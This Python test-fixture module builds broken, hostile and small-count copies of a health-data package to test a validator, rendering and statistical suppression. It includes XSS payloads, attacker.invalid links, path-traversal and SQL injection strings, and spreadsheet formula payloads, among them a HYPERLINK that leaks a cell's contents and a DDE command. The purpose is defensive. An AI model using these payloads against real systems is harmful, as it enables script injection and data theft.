"""Build broken, hostile and small-number copies of the shipped package in a temporary folder.

Used by the reliability tests (tests/test_reliability_validator.py, test_hostile.py, test_privacy.py,
test_load.py). Every builder copies data/nel first and never touches the shipped files.
"""
from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "data" / "nel"
MANIFEST = "datapackage.json"


# ---------------------------------------------------------------------------------------------
# CSV editing


def copy_package(dest: Path | str) -> Path:
    dest = Path(dest)
    if dest.exists():
        shutil.rmtree(dest)
    shutil.copytree(SHIPPED, dest)
    return dest


def read_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def write_rows(path: Path, header: list[str], rows: list[list[str]]) -> None:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def set_cell(path: Path, line: int, column: str, value: str) -> None:
    """Set one cell; ``line`` is the 1-based line in the file (line 1 is the header, so data starts at 2)."""
    header, rows = read_rows(path)
    rows[line - 2][header.index(column)] = value
    write_rows(path, header, rows)


def line_where(path: Path, **match: str) -> int:
    """The 1-based line of the first row whose cells equal ``match``."""
    header, rows = read_rows(path)
    for i, row in enumerate(rows, start=2):
        if all(row[header.index(k)] == v for k, v in match.items()):
            return i
    raise AssertionError(f"no row {match} in {path.name}")


def manifest(pkg: Path) -> dict:
    return json.loads((pkg / MANIFEST).read_text(encoding="utf-8"))


def write_manifest(pkg: Path, data: object) -> None:
    (pkg / MANIFEST).write_text(json.dumps(data), encoding="utf-8")


def resource_files() -> dict[str, str]:
    """Resource name -> file name, from the canonical schema."""
    from data import schema

    return {name: res["path"] for name, res in schema.resources().items()}


# ---------------------------------------------------------------------------------------------
# One case per class of failure the validator reports. Each mutates a package folder and returns
# the file the problem must be reported against and a regex the FILE:ROW:COLUMN line must match.


@dataclass(frozen=True)
class Case:
    name: str
    table: str                      # the resource the case breaks ("*" = every resource)
    mutate: Callable[[Path], tuple[str, str]]


def _file(pkg: Path, table: str) -> Path:
    return pkg / resource_files()[table]


def _replace_text(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (old, path.name)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _drop_column(path: Path, column: str) -> None:
    header, rows = read_rows(path)
    i = header.index(column)
    write_rows(path, header[:i] + header[i + 1:], [r[:i] + r[i + 1:] for r in rows])


def _cell_case(table: str, column: str, value: str, pattern: str, line: int = 2):
    def mutate(pkg: Path) -> tuple[str, str]:
        set_cell(_file(pkg, table), line, column, value)
        return resource_files()[table], pattern.format(line=line)
    return mutate


def _m_missing_manifest(pkg):
    (pkg / MANIFEST).unlink()
    return MANIFEST, r"^datapackage\.json:-:-: file not found$"


def _m_manifest_not_utf8(pkg):
    (pkg / MANIFEST).write_bytes((pkg / MANIFEST).read_bytes().replace(b"NEL Race", b"NEL R\xe9ce", 1))
    return MANIFEST, r"^datapackage\.json:-:-: bytes are not valid UTF-8$"


def _m_manifest_not_json(pkg):
    (pkg / MANIFEST).write_text('{"resources": [', encoding="utf-8")
    return MANIFEST, r"^datapackage\.json:1:-: not valid JSON"


def _m_manifest_not_object(pkg):
    (pkg / MANIFEST).write_text('["sources.csv"]', encoding="utf-8")
    return MANIFEST, r"^datapackage\.json:-:resources: expected a JSON object with a 'resources' list$"


def _m_manifest_too_deep(pkg):
    (pkg / MANIFEST).write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    return MANIFEST, r"^datapackage\.json:[-\d]+:-: not valid JSON"


def _m_resource_without_name(pkg, table="remi"):
    m = manifest(pkg)
    for res in m["resources"]:
        if res["name"] == table:
            del res["name"]
    write_manifest(pkg, m)
    return MANIFEST, r"^datapackage\.json:-:resources\[\d+\]: resource has no name$"


def _m_path_outside(pkg, table="pillars"):
    m = manifest(pkg)
    for res in m["resources"]:
        if res["name"] == table:
            res["path"] = "../../../etc/passwd"
    write_manifest(pkg, m)
    return MANIFEST, r"^datapackage\.json:-:resources\[\d+\]\.path: resource 'pillars' needs a relative path"


def _m_path_url(pkg, table="actions"):
    m = manifest(pkg)
    for res in m["resources"]:
        if res["name"] == table:
            res["path"] = "https://attacker.invalid/actions.csv"
    write_manifest(pkg, m)
    return MANIFEST, r"^datapackage\.json:-:resources\[\d+\]\.path: resource 'actions' needs a relative path"


def _m_resource_missing(pkg, table="remi_stages"):
    m = manifest(pkg)
    m["resources"] = [r for r in m["resources"] if r["name"] != table]
    write_manifest(pkg, m)
    return MANIFEST, r"^datapackage\.json:-:resources: the package has no 'remi_stages' resource \(remi_stages\.csv\)$"


def _f_missing(pkg, table="wres"):
    _file(pkg, table).unlink()
    return resource_files()[table], rf"^{resource_files()[table]}:-:-: file not found$"


def _f_folder(pkg, table="remi"):
    path = _file(pkg, table)
    path.unlink()
    path.mkdir()
    return path.name, rf"^{path.name}:-:-: expected a file, found a folder$"


def _f_empty(pkg, table="commitments"):
    _file(pkg, table).write_bytes(b"")
    return resource_files()[table], rf"^{resource_files()[table]}:-:-: file is empty"


def _f_not_utf8(pkg, table="organisations"):
    path = _file(pkg, table)
    data = path.read_bytes().replace("Barts Health NHS Trust".encode(), "Barts H\xe9alth NHS Trust".encode("latin-1"), 1)
    path.write_bytes(data)
    line = data[: data.index(b"R1H,")].count(b"\n") + 1
    return path.name, rf"^{path.name}:{line}:-: bytes are not valid UTF-8"


def _f_nul(pkg, table="staff_groups"):
    path = _file(pkg, table)
    path.write_bytes(path.read_bytes().replace(b"All staff", b"All\x00staff", 1))
    return path.name, rf"^{path.name}:2:-: file contains a NUL byte"


def _f_bad_quoting(pkg, table="population"):
    path = _file(pkg, table)
    lines = path.read_text(encoding="utf-8").split("\n")
    lines[3] = lines[3].replace("E09", '"E09"x', 1)
    path.write_text("\n".join(lines), encoding="utf-8")
    return path.name, rf"^{path.name}:4:-: not a well-formed CSV file"


def _f_too_large(pkg, table="measures"):
    path = _file(pkg, table)
    with path.open("ab") as fh:  # a sparse 51 MB file: over the 50 MB limit without writing 51 MB
        fh.truncate(51 * 1024 * 1024)
    return path.name, rf"^{path.name}:-:-: file cannot be read \(file is larger than 50 MB\)$"


def _h_missing_column(pkg, table="boroughs"):
    _drop_column(_file(pkg, table), "in_nel")
    return "boroughs.csv", r"^boroughs\.csv:1:in_nel: missing column$"


def _h_missing_rule_column(pkg, table="workforce"):
    _drop_column(_file(pkg, table), "gm_percent")
    return "workforce.csv", r"^workforce\.csv:1:gm_percent: missing column$"


def _h_unexpected_column(pkg, table="remi_domains"):
    path = _file(pkg, table)
    header, rows = read_rows(path)
    write_rows(path, header + ["colour"], [r + ["red"] for r in rows])
    return path.name, rf"^{path.name}:1:colour: unexpected column"


def _h_duplicate_column(pkg, table="ethnic_groups"):
    path = _file(pkg, table)
    header, rows = read_rows(path)
    write_rows(path, header + ["label"], [r + ["x"] for r in rows])
    return path.name, rf"^{path.name}:1:label: column appears twice in the header$"


def _r_ragged(pkg, table="wres_indicators"):
    path = _file(pkg, table)
    path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n10,Extra\n", encoding="utf-8")
    line = path.read_text(encoding="utf-8").rstrip("\n").count("\n") + 1
    return path.name, rf"^{path.name}:{line}:-: row has 2 cells but the header has 7$"


def _w_counts_over(pkg):
    path = _file(pkg, "workforce")
    line = line_where(path, ods_code="R1H", year="2020", staff_group="bands_1_4")
    set_cell(path, line, "gm_headcount", "999999")
    return path.name, rf"^workforce\.csv:{line}:gm_headcount: global-majority headcount \(999999\) is more than total headcount"


def _w_pair(pkg):
    path = _file(pkg, "workforce")
    line = line_where(path, ods_code="R1H", year="2020", staff_group="bands_1_4")
    set_cell(path, line, "total_headcount", "")
    return path.name, rf"^workforce\.csv:{line}:total_headcount: gm_headcount and total_headcount must both be given"


def _w_either(pkg):
    path = _file(pkg, "workforce")
    line = line_where(path, ods_code="R1H", year="2020", staff_group="bands_1_4")
    set_cell(path, line, "gm_percent", "61.1")
    return path.name, rf"^workforce\.csv:{line}:gm_percent: give either the headcounts or gm_percent, not both$"


def _w_neither(pkg):
    path = _file(pkg, "workforce")
    line = line_where(path, ods_code="ENG", year="2018", staff_group="board")
    set_cell(path, line, "gm_percent", "")
    return path.name, rf"^workforce\.csv:{line}:gm_percent: no figure: give the headcounts or gm_percent$"


def _s_percent(pkg):
    path = _file(pkg, "wres")
    line = line_where(path, unit="percent")
    set_cell(path, line, "value", "120")
    return path.name, rf"^wres\.csv:{line}:value: out of range: a percentage must be 0 to 100, found 120$"


def _s_ratio(pkg):
    path = _file(pkg, "wres")
    line = line_where(path, unit="ratio")
    set_cell(path, line, "value", "-1.5")
    return path.name, rf"^wres\.csv:{line}:value: out of range: a ratio cannot be negative, found -1\.5$"


def _s_numerator(pkg):
    path = _file(pkg, "wres")
    line = line_where(path, ods_code="R1H", year="2019", indicator="4", group="white")
    set_cell(path, line, "numerator", "9000")
    return path.name, rf"^wres\.csv:{line}:numerator: numerator \(9000\) is more than denominator"


def _b_measure_percent(pkg):
    path = _file(pkg, "area_benchmarks")
    line = line_where(path, measure_id="residents_global_majority_percent")
    set_cell(path, line, "value", "163.2")
    return path.name, rf"^area_benchmarks\.csv:{line}:value: out of range: a percentage must be 0 to 100, found 163\.2$"


def _b_measure_count(pkg):
    measures = _file(pkg, "measures")
    header, rows = read_rows(measures)
    row = dict.fromkeys(header, "")
    row.update(measure_id="test_count", name="A count", unit="count", definition="A count.", source_id="nel-strategy-2025")
    write_rows(measures, header, rows + [[row[c] for c in header]])
    path = _file(pkg, "borough_measures")
    header, rows = read_rows(path)
    row = dict.fromkeys(header, "")
    row.update(gss_code="E09000002", measure_id="test_count", value="-218900", year="2021", period="2021",
               source_id="nel-strategy-2025", status="published")
    write_rows(path, header, rows + [[row[c] for c in header]])
    line = len(rows) + 2
    return path.name, rf"^borough_measures\.csv:{line}:value: out of range: a count cannot be negative, found -218900$"


def _k_duplicate_key(pkg, table="organisation_boroughs"):
    path = _file(pkg, table)
    header, rows = read_rows(path)
    write_rows(path, header, rows + [rows[2]])
    return path.name, rf"^{path.name}:{len(rows) + 2}:ods_code,gss_code: duplicate key \(.*\): the same key is on line 4$"


def _overflow(pkg, table="remi"):
    path = _file(pkg, table)
    header, rows = read_rows(path)
    i = header.index("status")
    write_rows(path, header, [r[:i] + ["guess"] + r[i + 1:] for r in rows])
    return path.name, rf"^{path.name}:-:status: \d+ more rows with the same problem"


CASES: list[Case] = [
    Case("manifest missing", "*", _m_missing_manifest),
    Case("manifest not UTF-8", "*", _m_manifest_not_utf8),
    Case("manifest not JSON", "*", _m_manifest_not_json),
    Case("manifest not an object", "*", _m_manifest_not_object),
    Case("manifest nested too deep", "*", _m_manifest_too_deep),
    Case("resource without a name", "remi", _m_resource_without_name),
    Case("resource path outside the package", "pillars", _m_path_outside),
    Case("resource path is a URL", "actions", _m_path_url),
    Case("resource missing from the manifest", "remi_stages", _m_resource_missing),
    Case("file missing", "wres", _f_missing),
    Case("folder instead of a file", "remi", _f_folder),
    Case("empty file", "commitments", _f_empty),
    Case("not UTF-8", "organisations", _f_not_utf8),
    Case("NUL byte", "staff_groups", _f_nul),
    Case("malformed quoting", "population", _f_bad_quoting),
    Case("file over the size limit", "measures", _f_too_large),
    Case("missing column", "boroughs", _h_missing_column),
    Case("missing column a rule needs", "workforce", _h_missing_rule_column),
    Case("unexpected column", "remi_domains", _h_unexpected_column),
    Case("column twice in the header", "ethnic_groups", _h_duplicate_column),
    Case("ragged row", "wres_indicators", _r_ragged),
    Case("wrong type: whole number", "population", _cell_case("population", "count", "lots", r"^population\.csv:{line}:count: wrong type: expected a whole number, found 'lots'$")),
    Case("wrong type: Unicode digits", "remi", _cell_case("remi", "year", "٢٠٢٤", r"^remi\.csv:{line}:year: wrong type: expected a whole number")),
    Case("wrong type: number", "organisations", _cell_case("organisations", "site_lat", "51,5", r"^organisations\.csv:{line}:site_lat: wrong type: expected a number")),
    Case("wrong type: boolean", "boroughs", _cell_case("boroughs", "in_nel", "yes", r"^boroughs\.csv:{line}:in_nel: wrong type: expected true or false, found 'yes'$")),
    Case("wrong type: date", "sources", _cell_case("sources", "date_retrieved", "25/11/2026", r"^sources\.csv:{line}:date_retrieved: wrong type: expected a date \(YYYY-MM-DD\)")),
    Case("wrong type: impossible date", "commitments", _cell_case("commitments", "last_updated", "2025-02-30", r"^commitments\.csv:{line}:last_updated: wrong type: expected a date")),
    Case("required value missing", "pillars", _cell_case("pillars", "name", "", r"^pillars\.csv:{line}:name: required value is missing: fill in name$")),
    Case("unknown enum value", "wres", _cell_case("wres", "status", "estimated", r"^wres\.csv:{line}:status: unknown value 'estimated': expected one of published, illustrative$")),
    Case("pattern mismatch", "boroughs", _cell_case("boroughs", "gss_code", "E9000001", r"^boroughs\.csv:{line}:gss_code: value 'E9000001' is not in the expected form: give the London borough's ONS code: E09 and six digits, e\.g\. E09000025 for Newham$")),
    Case("URL that is not http(s)", "sources", _cell_case("sources", "url", "javascript:alert(1)", r"^sources\.csv:{line}:url: value 'javascript:alert\(1\)' is not in the expected form: give a web address that starts with http:// or https:// and has no spaces$")),
    Case("below the minimum", "workforce", _cell_case("workforce", "year", "1999", r"^workforce\.csv:{line}:year: out of range: 1999 is below the minimum 2000$")),
    Case("above the maximum", "remi", _cell_case("remi", "stage", "7", r"^remi\.csv:{line}:stage: out of range: 7 is above the maximum 6$")),
    Case("unique value repeated", "remi_stages", _cell_case("remi_stages", "stage", "1", r"^remi_stages\.csv:3:stage: duplicate value '1': must be unique$", line=3)),
    Case("duplicate primary key", "organisation_boroughs", _k_duplicate_key),
    Case("unknown foreign key", "workforce", _cell_case("workforce", "ods_code", "ZZZ", r"^workforce\.csv:{line}:ods_code: unknown organisation 'ZZZ'")),
    Case("headcount above total", "workforce", _w_counts_over),
    Case("headcount without total", "workforce", _w_pair),
    Case("headcounts and percentage both given", "workforce", _w_either),
    Case("no figure at all", "workforce", _w_neither),
    Case("WRES percentage out of range", "wres", _s_percent),
    Case("WRES ratio negative", "wres", _s_ratio),
    Case("WRES numerator above denominator", "wres", _s_numerator),
    Case("benchmark percentage out of range", "area_benchmarks", _b_measure_percent),
    Case("borough count negative", "borough_measures", _b_measure_count),
    Case("many rows with one problem (capped)", "remi", _overflow),
]


# ---------------------------------------------------------------------------------------------
# Hostile text: every free-text field of a valid package


ATTACKER = "attacker.invalid"  # a host that must never appear as a link, image or request

HOSTILE_STRINGS: list[str] = [
    "<script>window.__pwned='script';alert('script')</script>",
    "<img src=x onerror=\"window.__pwned='img';alert('img')\" data-hostile=1>",
    "<svg onload=\"window.__pwned='svg';alert('svg')\" data-hostile=1></svg>",
    "<a href=\"javascript:window.__pwned='a-js'\" data-hostile=1>click me</a>",
    f"<a href=\"https://{ATTACKER}/html-link\" data-hostile=1>plain html link</a>",
    "[markdown js link](javascript:window.__pwned='md-js')",
    "[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[markdown https link](https://{ATTACKER}/md-link)",
    f"![markdown image](https://{ATTACKER}/pixel.png)",
    f"<iframe src=\"https://{ATTACKER}/frame\" data-hostile=1></iframe>",
    f"<link rel=stylesheet href=\"https://{ATTACKER}/x.css\" data-hostile=1>",
    "<style>body{display:none!important}</style>",
    "<b data-hostile=1 onmouseover=\"window.__pwned='b'\">bold by HTML</b>",
    "<span style=\"font-size:200px\" data-hostile=1>big</span>",
    "\" onmouseover=\"window.__pwned='attr'\" data-x=\"",
    "'><script>window.__pwned='quote'</script>",
    "**bold** _em_ `code` # heading ~~strike~~ | table | --- |",
    "$\\frac{1}{0}$ and $$x$$ :red[coloured] :material/warning: :smile:",
    "&lt;script&gt;entity&lt;/script&gt; &amp; &#60;b&#62;",
    "\u202eRight-to-left override: gnp.exe\u202c",
    "مؤسسة الصحة العامة في شرق لندن",
    "זהו טקסט בעברית",
    "zero\u200bwidth\u200cjoin\u200d\ufeffchars",
    "{{7*7}} ${7*7} <%= 7*7 %> %s %n %x",
    "'; DROP TABLE workforce; --",
    "../../../../etc/passwd",
    "Emoji 👩🏽‍⚕️🧑🏿‍🤝‍🧑🏻 and combining a\u0301\u0301\u0301",
    "L" + "o" * 5000 + "ng",
]

# Columns whose values identify rows or are checked against a list: left untouched so the package
# stays valid and every page has something to draw.
_KEEP = {"status", "period"}  # period strings are checked by nothing, but are kept readable for titles


def hostile_value(i: int) -> str:
    return HOSTILE_STRINGS[i % len(HOSTILE_STRINGS)]


def hostile_fields() -> dict[str, list[str]]:
    """Resource -> free-text columns (strings with no enum or pattern and not part of a key)."""
    from data import schema

    out: dict[str, list[str]] = {}
    for name, res in schema.resources().items():
        keys = set(res["schema"].get("primaryKey", []))
        keys |= {fk["fields"] for fk in res["schema"].get("foreignKeys", [])}
        cols = [f["name"] for f in res["schema"]["fields"]
                if f.get("type", "string") == "string" and f["name"] not in keys and f["name"] not in _KEEP
                and not {"enum", "pattern"} & set(f.get("constraints", {}))]
        if cols:
            out[name] = cols
    return out


def hostile_urls() -> list[str]:
    """Source URLs that pass the schema's http(s) pattern but carry markup (rendered as text, never as a link)."""
    return [
        f"https://{ATTACKER}/\"><script>window.__pwned='url'</script>",
        f"https://{ATTACKER}/)[x](javascript:window.__pwned='paren')",
        f"https://{ATTACKER}/<img/src=x/onerror=alert(1)>",
        f"https://{ATTACKER}/'onmouseover='window.__pwned=1'",
    ]


def hostile_package(dest: Path | str) -> tuple[Path, int]:
    """A valid package whose every free-text cell is a hostile string. Returns (folder, cells written)."""
    pkg = copy_package(dest)
    written = 0
    n = 0
    for table, cols in hostile_fields().items():
        path = _file(pkg, table)
        header, rows = read_rows(path)
        for r in rows:
            for c in cols:
                r[header.index(c)] = hostile_value(n)
                n += 1
                written += 1
        if table == "sources":
            ui = header.index("url")
            urls = hostile_urls()
            for k, r in enumerate(rows):
                if k % 2 == 0:  # half the sources keep a plain (safe) https link
                    r[ui] = urls[(k // 2) % len(urls)]
                    written += 1
        write_rows(path, header, rows)
    return pkg, written


# ---------------------------------------------------------------------------------------------
# Small numbers: counts under the suppression threshold in rows the default views show


@dataclass
class SmallCell:
    table: str
    key: dict
    values: dict            # column -> value written
    forbidden: list[str]    # strings that would reveal the withheld figure (or one derived from it)


def _pct_tokens(part: float, whole: float) -> list[str]:
    p = 100 * part / whole
    return [f"{p:.2f}", f"{p:.3f}", f"{p:.4f}"]


def small_number_package(dest: Path | str) -> tuple[Path, list[SmallCell]]:
    """Write small counts (and counts whose complement is small) into workforce and WRES rows shown by
    the default views of /workforce, /trust and /overview. Returns the cells and, for each, strings that
    must never be shown: the withheld count where it is distinctive, its complement, its percentage
    (to 2-4 decimals, chosen so they are unusual) and the system total it would feed."""
    pkg = copy_package(dest)
    cells: list[SmallCell] = []
    wf = _file(pkg, "workforce")
    header, rows = read_rows(wf)
    col = {c: header.index(c) for c in header}
    latest = max(int(r[col["year"]]) for r in rows if r[col["ods_code"]] == "R1H" and r[col["total_headcount"]])
    plan = [
        # (org, group, gm, total): gm small; total - gm small; both distinctive totals.
        # Not the board: its members are named office-holders, never withheld (staff_groups.suppress).
        ("R1H", "vsm", "3", "137"),
        ("RF4", "vsm", "2", "4111"),
        ("RQX", "bands_1_4", "4383", "4387"),
        ("RWK", "band_8a_plus", "7931", "7934"),
    ]
    for org, group, gm, total in plan:
        target = None
        for r in rows:
            if r[col["ods_code"]] == org and r[col["staff_group"]] == group and r[col["year"]] == str(latest):
                target = r
        if target is None:  # add the row if that year/group is missing
            target = [""] * len(header)
            target[col["ods_code"]], target[col["year"]], target[col["staff_group"]] = org, str(latest), group
            target[col["period"]] = f"31 March {latest}"
            target[col["source_id"]] = "illustrative"
            target[col["status"]] = "illustrative"
            rows.append(target)
        target[col["gm_headcount"]], target[col["total_headcount"]], target[col["gm_percent"]] = gm, total, ""
        g, t = int(gm), int(total)
        forbidden = _pct_tokens(g, t) + _pct_tokens(t - g, t)
        forbidden += [str(x) for x in (g, t - g) if x >= 100]  # small single digits are everywhere; big complements are not
        cells.append(SmallCell("workforce", {"ods_code": org, "year": latest, "staff_group": group},
                               {"gm_headcount": g, "total_headcount": t}, forbidden))
    write_rows(wf, header, rows)

    wres = _file(pkg, "wres")
    header, rows = read_rows(wres)
    col = {c: header.index(c) for c in header}
    wlatest = max(int(r[col["year"]]) for r in rows if r[col["ods_code"]] == "R1H" and r[col["numerator"]])
    wplan = [("R1H", "3", "global_majority", "3", "7919", "0.0379"),
             ("RF4", "2", "global_majority", "2", "8117", "0.0246"),
             ("RQX", "2", "white", "6063", "6066", "99.9505")]
    for org, ind, group, num, den, value in wplan:
        hit = [r for r in rows if r[col["ods_code"]] == org and r[col["indicator"]] == ind
               and r[col["group"]] == group and r[col["year"]] == str(wlatest) and r[col["numerator"]]]
        if not hit:
            continue
        r = hit[0]
        r[col["numerator"]], r[col["denominator"]], r[col["value"]] = num, den, value
        n, d = int(num), int(den)
        forbidden = [value] + _pct_tokens(n, d) + _pct_tokens(d - n, d) + [str(x) for x in (n, d - n) if x >= 100]
        # the comparison (ratio) row of that indicator derives from the withheld count: make it distinctive too
        comp = [c for c in rows if c[col["ods_code"]] == org and c[col["indicator"]] == ind
                and c[col["group"]] == "comparison" and c[col["year"]] == str(wlatest)]
        for c in comp:
            c[col["value"]] = "3.7913"
            forbidden.append("3.7913")
            forbidden.append("3.79")
        cells.append(SmallCell("wres", {"ods_code": org, "year": wlatest, "indicator": int(ind), "group": group},
                               {"numerator": n, "denominator": d, "value": float(value)}, forbidden))
    write_rows(wres, header, rows)
    return pkg, cells


# ---------------------------------------------------------------------------------------------
# Spreadsheet formulas in text cells (OWASP CSV injection): (payload, the lead the fix names)


FORMULA_PAYLOADS: list[tuple[str, str]] = [
    (f'=HYPERLINK("http://{ATTACKER}/?leak="&A1,"x")', "="),
    ("=cmd|' /C calc'!A0", "="),
    ("@SUM(1+1)", "@"),
    ("+1", "+"),
    ("-x", "-"),
    ("\tBoard paper", "tab"),
    ("\rBoard paper", "carriage return"),
]
